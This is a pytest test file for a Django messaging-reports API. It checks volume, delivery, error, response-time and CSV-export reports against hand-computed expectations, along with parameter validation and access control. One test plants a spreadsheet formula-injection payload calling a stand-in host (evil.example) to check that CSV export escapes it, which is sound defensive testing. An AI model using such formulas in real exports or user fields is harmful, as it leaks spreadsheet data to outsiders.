"""The four reports, each against the answer computed by hand from the two days of
reports/tests/conftest.py (read its timeline first), through the real API."""

import csv
import io
from datetime import datetime, timedelta

import pytest
from django.contrib.auth import get_user_model

from emails import providers as email_providers
from messaging import providers as sms_providers
from reports.models import RefreshState
from reports.tests.conftest import NEW_YORK, RANGE

pytestmark = pytest.mark.django_db

ZERO_WEEK = [0] * 24


def get(client, report: str, **params):
    response = client.get(f"/api/reports/{report}", {**RANGE, **params})
    assert response.status_code == 200, response.content
    return response.json()


def reason(channel: str, code: str) -> dict:
    """What the provider's own table says of a code."""
    providers = sms_providers if channel == "sms" else email_providers
    found = providers.failure_reason(code)
    return {"title": found.title, "action": found.action, "url": found.url}


# ---------------------------------------------------------------------------- volume


def test_volume_counts_each_local_day_in_and_out_for_every_channel(reports_client, two_days):
    report = get(reports_client, "volume")

    assert report["rows"] == [
        {"period": "2026-11-15", "channel": "sms", "inbound": 3, "outbound": 2},
        {"period": "2026-11-15", "channel": "email", "inbound": 1, "outbound": 1},
        {"period": "2026-11-15", "channel": "internal", "inbound": 0, "outbound": 0},
        # Scheduled and canceled messages were not sent: not counted.
        {"period": "2026-11-16", "channel": "sms", "inbound": 1, "outbound": 7},
        {"period": "2026-11-16", "channel": "email", "inbound": 0, "outbound": 2},
        {"period": "2026-11-16", "channel": "internal", "inbound": 0, "outbound": 1},
    ]


def test_volume_answers_what_it_was_asked_and_how_fresh_it_is(reports_client, two_days):
    report = get(reports_client, "volume")

    refreshed_at = RefreshState.objects.get().refreshed_at
    assert {key: report[key] for key in report if key not in ("rows", "heatmap")} == {
        "from": "2026-11-15",
        "to": "2026-11-16",
        "channel": None,
        "interval": "day",
        "time_zone": "America/New_York",
        "refreshed_at": refreshed_at.isoformat(),
    }


def test_volume_by_week_starts_each_week_on_monday(reports_client, two_days):
    report = get(reports_client, "volume", interval="week")

    assert report["interval"] == "week"
    # Sunday belongs to the week of Monday 9 November (only its days in the range count).
    assert report["rows"] == [
        {"period": "2026-11-09", "channel": "sms", "inbound": 3, "outbound": 2},
        {"period": "2026-11-09", "channel": "email", "inbound": 1, "outbound": 1},
        {"period": "2026-11-09", "channel": "internal", "inbound": 0, "outbound": 0},
        {"period": "2026-11-16", "channel": "sms", "inbound": 1, "outbound": 7},
        {"period": "2026-11-16", "channel": "email", "inbound": 0, "outbound": 2},
        {"period": "2026-11-16", "channel": "internal", "inbound": 0, "outbound": 1},
    ]


def test_volume_of_one_channel_and_of_days_with_nothing(reports_client, two_days):
    report = get(reports_client, "volume", channel="sms", **{"from": "2026-11-13"})

    assert report["channel"] == "sms"
    assert report["rows"] == [
        {"period": "2026-11-13", "channel": "sms", "inbound": 0, "outbound": 0},
        # Saturday 23:30 in New York, Sunday in UTC: counted on Saturday.
        {"period": "2026-11-14", "channel": "sms", "inbound": 1, "outbound": 0},
        {"period": "2026-11-15", "channel": "sms", "inbound": 3, "outbound": 2},
        {"period": "2026-11-16", "channel": "sms", "inbound": 1, "outbound": 7},
    ]


def test_the_heatmap_counts_inbound_messages_by_local_weekday_and_hour(reports_client, two_days):
    heatmap = get(reports_client, "volume")["heatmap"]

    expected = [list(ZERO_WEEK) for _ in range(7)]
    expected[0][10] = 1  # Monday 10:00 (conversation B)
    expected[6][9] = 2  # Sunday 09:00 and 09:20
    expected[6][12] = 1  # Sunday 12:00, the email
    expected[6][22] = 1  # Sunday 22:30 (Monday 03:30 in UTC)
    assert heatmap == expected


# -------------------------------------------------------------------------- delivery


def test_delivery_counts_outcomes_per_day_and_channel_with_the_rate(reports_client, two_days):
    report = get(reports_client, "delivery")

    assert report["rows"] == [
        {
            "period": "2026-11-15", "channel": "sms",
            "outbound": 2, "delivered": 2, "failed": 0, "pending": 0, "delivery_rate": 1.0,
        },
        {
            "period": "2026-11-15", "channel": "email",
            "outbound": 1, "delivered": 0, "failed": 1, "pending": 0, "delivery_rate": 0.0,
        },
        {
            # failed 30007, undelivered 30005, failed (no code), failed 30007, failed 12345;
            # sent and queued pending; scheduled and canceled not counted.
            "period": "2026-11-16", "channel": "sms",
            "outbound": 7, "delivered": 0, "failed": 5, "pending": 2, "delivery_rate": 0.0,
        },
        {
            "period": "2026-11-16", "channel": "email",
            "outbound": 2, "delivered": 1, "failed": 1, "pending": 0, "delivery_rate": 0.5,
        },
    ]  # fmt: skip
    assert report["total"] == {
        "outbound": 12, "delivered": 3, "failed": 7, "pending": 2, "delivery_rate": 0.3,
    }  # fmt: skip


def test_the_delivery_rate_is_null_with_no_answer_yet(reports_client, two_days):
    report = get(reports_client, "delivery", channel="email", **{"from": "2026-11-14"})

    assert report["rows"][0] == {
        "period": "2026-11-14", "channel": "email",
        "outbound": 0, "delivered": 0, "failed": 0, "pending": 0, "delivery_rate": None,
    }  # fmt: skip
    assert report["total"]["delivery_rate"] == 0.3333  # 1 of 3


def test_internal_messages_have_no_delivery_to_report(reports_client, two_days):
    report = get(reports_client, "delivery", channel="internal")

    assert report["rows"] == []
    assert report["total"] == {
        "outbound": 0, "delivered": 0, "failed": 0, "pending": 0, "delivery_rate": None,
    }  # fmt: skip


# ---------------------------------------------------------------------------- errors


def test_errors_are_listed_most_frequent_first_with_their_meaning(reports_client, two_days):
    assert sms_providers.failure_reason("12345") is None  # a code no table knows

    rows = get(reports_client, "errors")["rows"]

    assert rows == [
        {"channel": "sms", "code": "30007", "count": 2, **reason("sms", "30007")},
        {"channel": "email", "code": "bounce", "count": 1, **reason("email", "bounce")},
        {
            "channel": "email",
            "code": "dropped-spam-report",
            "count": 1,
            **reason("email", "dropped-spam-report"),
        },
        {"channel": "sms", "code": "", "count": 1, **generic("No error code")},
        {"channel": "sms", "code": "12345", "count": 1, **generic("Error 12345")},
        {"channel": "sms", "code": "30005", "count": 1, **reason("sms", "30005")},
    ]  # fmt: skip
    assert rows[0]["url"] == "https://www.twilio.com/docs/api/errors/30007"


def test_errors_of_one_channel_and_one_day(reports_client, two_days):
    rows = get(reports_client, "errors", channel="email", **{"to": "2026-11-15"})["rows"]

    assert [(row["code"], row["count"]) for row in rows] == [("bounce", 1)]


def generic(title: str) -> dict:
    """The meaning of a code no table explains: a title, nothing to do or read."""
    return {"title": title, "action": "", "url": ""}


# -------------------------------------------------------------------- response times


def agent_row(user, name: str, median_seconds: float, replies: int) -> dict:
    return {
        "agent_id": user.pk,
        "agent_name": name,
        "median_seconds": median_seconds,
        "replies": replies,
    }


def test_response_times_overall_per_teammate_and_per_day(reports_client, two_days, ada, grace):
    report = get(reports_client, "response_times")

    # First replies: 600 s and 3,600 s on Sunday, 6,000 s and 1,800 s on Monday.
    assert report["overall"] == {"median_seconds": 2700.0, "replies": 4}
    assert report["rows"] == [
        agent_row(ada, "Ada Lovelace", 1800.0, 3),
        agent_row(grace, "Grace Hopper", 6000.0, 1),
    ]
    assert report["by_period"] == [
        {"period": "2026-11-15", "median_seconds": 2100.0, "replies": 2},
        {"period": "2026-11-16", "median_seconds": 3900.0, "replies": 2},
    ]


def test_response_times_of_one_channel_by_week(reports_client, two_days, ada, grace):
    report = get(reports_client, "response_times", channel="sms", interval="week")

    assert report["overall"] == {"median_seconds": 1800.0, "replies": 3}
    assert report["rows"] == [
        agent_row(ada, "Ada Lovelace", 1200.0, 2),
        agent_row(grace, "Grace Hopper", 6000.0, 1),
    ]
    assert report["by_period"] == [
        {"period": "2026-11-09", "median_seconds": 600.0, "replies": 1},
        {"period": "2026-11-16", "median_seconds": 3900.0, "replies": 2},
    ]


def test_a_deleted_teammates_replies_still_count(reports_client, two_days, grace):
    get_user_model().objects.filter(pk=grace.pk).delete()

    report = get(reports_client, "response_times")

    assert report["overall"]["replies"] == 4
    assert report["rows"][-1] == {
        "agent_id": None, "agent_name": "Former teammate", "median_seconds": 6000.0, "replies": 1,
    }  # fmt: skip


def test_internal_conversations_have_no_reply_times(reports_client, two_days):
    report = get(reports_client, "response_times", channel="internal")

    assert report["overall"] == {"median_seconds": None, "replies": 0}
    assert report["rows"] == []
    assert report["by_period"] == [
        {"period": "2026-11-15", "median_seconds": None, "replies": 0},
        {"period": "2026-11-16", "median_seconds": None, "replies": 0},
    ]


# ------------------------------------------------------------------------------- CSV


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("report", "header"),
    [
        ("volume", ["period", "channel", "inbound", "outbound"]),
        (
            "delivery",
            ["period", "channel", "outbound", "delivered", "failed", "pending", "delivery_rate"],
        ),
        ("errors", ["channel", "code", "count", "title", "action", "url"]),
        ("response_times", ["agent_id", "agent_name", "median_seconds", "replies"]),
    ],
)
def test_each_report_downloads_as_csv_with_the_rows_of_its_json(
    reports_client, two_days, report, header
):
    response = reports_client.get(f"/api/reports/{report}", {**RANGE, "format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{report}-2026-11-15-to-2026-11-16.csv"'
    )
    rows = csv_rows(response)
    assert rows[0] == header
    expected = get(reports_client, report)["rows"]
    assert rows[1:] == [
        ["" if row[column] is None else str(row[column]) for column in header] for row in expected
    ]


def test_the_csv_names_its_channel_and_spells_a_volume_row_plainly(reports_client, two_days):
    response = reports_client.get(
        "/api/reports/volume", {**RANGE, "channel": "email", "format": "csv"}
    )

    assert response["Content-Disposition"] == (
        'attachment; filename="volume-email-2026-11-15-to-2026-11-16.csv"'
    )
    assert response.content.decode().splitlines() == [
        "period,channel,inbound,outbound",
        "2026-11-15,email,1,1",
        "2026-11-16,email,0,2",
    ]


def test_a_formula_in_a_teammates_name_is_text_in_the_csv(reports_client, two_days, grace):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    get_user_model().objects.filter(pk=grace.pk).update(first_name=formula, last_name="")

    response = reports_client.get("/api/reports/response_times", {**RANGE, "format": "csv"})

    names = [row[1] for row in csv_rows(response)[1:]]
    assert names == ["'" + formula, "Ada Lovelace"]
    # JSON carries the name as it is.
    assert formula in [row["agent_name"] for row in get(reports_client, "response_times")["rows"]]


# ------------------------------------------------------------------- bad parameters


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"from": "15/11/2026"}, "from", "'from' is not a date: '15/11/2026'. Send YYYY-MM-DD"),
        ({"to": "2026-02-30"}, "to", "'to' is not a date: '2026-02-30'"),
        ({"from": "0001-01-01"}, "from", "'from' must be a date from 1970-01-01 to 9998-12-31"),
        (
            {"from": "2026-11-16", "to": "2026-11-15"},
            "to",
            "'to' (2026-11-15) is before 'from' (2026-11-16)",
        ),
        (
            {"from": "2024-11-16", "to": "2026-11-16"},
            "to",
            "The range 2024-11-16 to 2026-11-16 is longer than 2 years",
        ),
        ({"channel": "whatsapp"}, "channel", "'channel' must be 'sms', 'email', 'internal'"),
        ({"interval": "month"}, "interval", "'interval' must be 'day' or 'week'."),
        ({"format": "xlsx"}, "format", "'format' must be 'json' or 'csv'."),
    ],
)
@pytest.mark.parametrize("report", ["volume", "delivery", "errors", "response_times"])
def test_a_bad_parameter_is_a_400_saying_what_to_send(
    reports_client, report, params, field, message
):
    response = reports_client.get(f"/api/reports/{report}", params)

    assert response.status_code == 400
    body = response.json()
    assert body["error"].startswith(message), body
    assert body["fields"] == {field: [body["error"]]}


def test_a_bad_parameter_of_a_csv_download_is_answered_in_json(reports_client):
    response = reports_client.get("/api/reports/errors", {"format": "csv", "to": "tomorrow"})

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["fields"] == {"to": [response.json()["error"]]}


def test_two_years_exactly_is_allowed(reports_client):
    response = reports_client.get("/api/reports/volume", {"from": "2024-02-29", "to": "2026-02-28"})

    assert response.status_code == 200
    assert len(response.json()["rows"]) == 731 * 3


def test_the_range_defaults_to_the_last_30_days_in_the_time_zone(reports_client, new_york):
    today = datetime.now(NEW_YORK).date()

    report = get(reports_client, "volume", **{"from": "", "to": ""})

    assert (report["from"], report["to"]) == (str(today - timedelta(days=29)), str(today))
    assert report["refreshed_at"] is None  # never refreshed
    assert len(report["rows"]) == 30 * 3
    assert {row["inbound"] + row["outbound"] for row in report["rows"]} == {0}


# ------------------------------------------------------------------------ who may read


@pytest.mark.parametrize(
    "path",
    [
        "/api/reports/volume",
        "/api/reports/delivery",
        "/api/reports/errors",
        "/api/reports/response_times",
        "/api/reports/volume?format=csv",
        "/api/reports/failure_reasons",
    ],
)
def test_the_reports_need_a_signed_in_user_or_a_token(anonymous_client, client, ada, path):
    refused = anonymous_client.get(path)

    assert refused.status_code == 401
    assert refused["WWW-Authenticate"] == "Token"
    assert refused.json()["error"]
    client.force_login(ada)  # a session, as the Reports page has
    assert client.get(path).status_code == 200


# ---------------------------------------------------------------------- query counts


@pytest.mark.parametrize(
    ("report", "queries"),
    [
        # The token, when the counts were refreshed, then the report's own.
        ("volume", 2 + 2),  # per period and channel; the heatmap
        ("delivery", 2 + 1),
        ("errors", 2 + 1),
        ("response_times", 2 + 4),  # overall; per teammate; their names; per period
    ],
)
@pytest.mark.parametrize("interval", ["day", "week"])
def test_a_report_is_a_fixed_number_of_queries_whatever_the_range(
    reports_client, two_days, django_assert_num_queries, report, queries, interval
):
    for days in ({"from": "2026-11-15"}, {"from": "2025-11-17"}):
        with django_assert_num_queries(queries):
            response = reports_client.get(
                f"/api/reports/{report}", {**RANGE, **days, "interval": interval}
            )
        assert response.status_code == 200
